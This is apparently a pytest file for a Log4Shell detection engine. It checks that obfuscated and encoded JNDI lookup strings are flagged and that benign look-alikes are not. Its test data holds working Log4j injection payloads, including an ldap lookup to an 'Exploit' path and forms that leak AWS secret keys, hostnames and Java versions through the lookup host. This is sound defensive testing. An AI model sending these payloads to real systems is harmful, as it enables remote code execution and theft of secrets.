"""Behaviour of the detection engine on the common payload forms."""

from __future__ import annotations

import json
import socket
from pathlib import Path

import pytest

from detectors import (
    ENGINE_VERSION,
    analyze,
    analyze_fields,
    find_candidates,
    may_contain_lookup,
)


def test_plain_jndi_lookup_is_detected_with_its_url_split() -> None:
    verdict = analyze("${jndi:ldap://198.51.100.7:1389/Exploit}", "user_agent.original")

    assert verdict.malicious and not verdict.inert
    (lookup,) = verdict.lookups
    assert (lookup.scheme, lookup.host, lookup.port, lookup.path) == (
        "ldap",
        "198.51.100.7",
        1389,
        "/Exploit",
    )
    assert lookup.url == "ldap://198.51.100.7:1389/Exploit"
    assert lookup.cves == ("CVE-2021-44228",)
    assert "plain" in lookup.techniques


def test_nested_lower_lookup_is_detected() -> None:
    verdict = analyze(
        "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://example.com/a}"
    )

    assert verdict.malicious
    assert verdict.lookups[0].url == "ldap://example.com/a"
    assert {"lower", "nested"} <= set(verdict.techniques)


def test_upper_lookup_of_dotless_i_makes_a_capital_i() -> None:
    verdict = analyze("${jnd${upper:\u0131}:ldap://example.com/a}")

    assert verdict.malicious
    assert "unicode-case" in verdict.techniques


@pytest.mark.parametrize(
    "payload",
    [
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://example.com/a}",
        "${${:-j}ndi:ldap://example.com/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//example.com/a}",
        "${${env:ANY:-j}ndi:ldap://example.com/a}",
        "${${k8s:x:-j}${sys:y:-n}di:ldap://example.com/a}",
        "${${date:'j'}ndi:ldap://example.com/a}",
        "${JnDi:ldap://example.com/a}",
    ],
)
def test_default_value_and_unknown_prefix_forms_resolve_to_the_url(
    payload: str,
) -> None:
    verdict = analyze(payload)

    assert verdict.malicious, payload
    assert [x.url for x in verdict.lookups] == ["ldap://example.com/a"]


def test_env_lookup_without_default_stays_symbolic_and_is_reported_as_exfil() -> None:
    verdict = analyze("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.example.com/a}")

    (lookup,) = verdict.lookups
    assert lookup.exfil == ("env:AWS_SECRET_ACCESS_KEY",)
    assert lookup.host == "${env:AWS_SECRET_ACCESS_KEY}.example.com"
    assert "exfiltration" in lookup.techniques


def test_hostname_and_java_version_are_exfil_targets() -> None:
    verdict = analyze("${jndi:ldap://example.com/${hostName}/${java:version}}")

    assert verdict.lookups[0].exfil == ("hostName", "java:version")
    assert verdict.lookups[0].url == "ldap://example.com/${hostName}/${java:version}"


@pytest.mark.parametrize(
    ("payload", "decodings"),
    [
        ("%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%2Fa%7D", ("url",)),
        (
            "%2524%257Bjndi%253Aldap%253A%252F%252Fexample.com%252Fa%257D",
            ("url", "url"),
        ),
        ("%252524%25257Bjndi:ldap://example.com/a%25257D", ("url", "url", "url")),
    ],
)
def test_repeated_url_encoding_is_undone_and_counted(
    payload: str, decodings: tuple[str, ...]
) -> None:
    verdict = analyze(payload, "url.original")

    assert verdict.malicious
    assert verdict.lookups[0].url == "ldap://example.com/a"
    assert verdict.lookups[0].decodings == decodings


def test_ipv6_host_is_reported_without_brackets() -> None:
    verdict = analyze("${jndi:rmi://[2001:db8::7]:1099/a}")

    lookup = verdict.lookups[0]
    assert (lookup.scheme, lookup.host, lookup.port) == ("rmi", "2001:db8::7", 1099)
    assert "ipv6" in lookup.techniques


def test_local_jndi_name_is_inert_not_malicious() -> None:
    verdict = analyze("${jndi:java:comp/env/jdbc/x}")

    assert not verdict.malicious
    assert verdict.inert


@pytest.mark.parametrize(
    "value",
    [
        "${user.home}",
        "${HOSTNAME}",
        "${FREE_PVS}",
        "`Hello ${name}`",
        "{{ .Values.image.tag }}",
        "<%= @user %>",
        "/search?q=jndi+lookup+tutorial",
        "/docs/%24%7Bname%7D",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    ],
)
def test_benign_look_alikes_stay_benign(value: str) -> None:
    verdict = analyze(value, "url.original")

    assert not verdict.malicious
    assert not verdict.inert


def test_unclosed_lookup_is_neither_malicious_nor_crashing() -> None:
    verdict = analyze("${jndi:ldap://example.com/a")

    assert not verdict.malicious
    assert verdict.inert


def test_record_verdict_keeps_only_flagged_fields() -> None:
    verdict = analyze_fields(
        [
            ("url.original", "/index.html"),
            ("user_agent.original", "${jndi:ldap://example.com/a}"),
            ("http.request.referrer", "${jndi:java:comp/env/x}"),
        ]
    )

    assert verdict.malicious and not verdict.inert
    assert [f.field for f in verdict.fields] == [
        "user_agent.original",
        "http.request.referrer",
    ]
    assert verdict.fields[1].inert
    assert verdict.techniques == tuple(sorted(verdict.techniques))


def test_engine_version_is_a_dotted_string() -> None:
    assert ENGINE_VERSION.count(".") == 2


def test_prefilter_rejects_plain_benign_lines_and_accepts_encoded_payloads() -> None:
    assert not may_contain_lookup(
        b'1.2.3.4 - - [x] "GET /a%2Fb?c=d&e=f HTTP/1.1" 200 5'
    )
    assert may_contain_lookup(b'"GET /?q=%24%7Bjndi:ldap://example.com/a%7D HTTP/1.1"')
    assert may_contain_lookup(b'"GET /?q=%2524%257Bjndi HTTP/1.1"')
    assert may_contain_lookup(b'"&#36;&#123;jndi:ldap://example.com/a}"')
    assert may_contain_lookup(b'"\\x24\\x7bjndi:ldap://example.com/a}"')


def test_find_candidates_returns_the_indices_the_per_record_prefilter_accepts() -> None:
    lines = [
        b'1.2.3.4 - - [x] "GET / HTTP/1.1" 200 5 "-" "curl/8"',
        b'1.2.3.4 - - [x] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://example.com/a}"',
        b"plain",
        b'"GET /%24%7Bjndi:dns://example.com/%7D"',
        b"Authorization: Basic JHtqbmRpOmxkYXA6Ly9leGFtcGxlLmNvbS9hfQ==",
        b"Authorization: Basic dXNlcjpwYXNzd29yZA==",
    ]

    found = find_candidates(b"\n".join(lines))

    assert found == [1, 3, 4]
    assert found == [i for i, line in enumerate(lines) if may_contain_lookup(line)]


def test_engine_opens_no_socket_and_resolves_no_name(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the engine touched the network")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)
    corpus = Path(__file__).resolve().parents[1] / "data" / "payloads.jsonl"
    cases = [json.loads(line) for line in corpus.read_text("utf-8").splitlines()]

    flagged = [analyze(case["value"], case["field"]).malicious for case in cases]

    assert sum(flagged) > 70
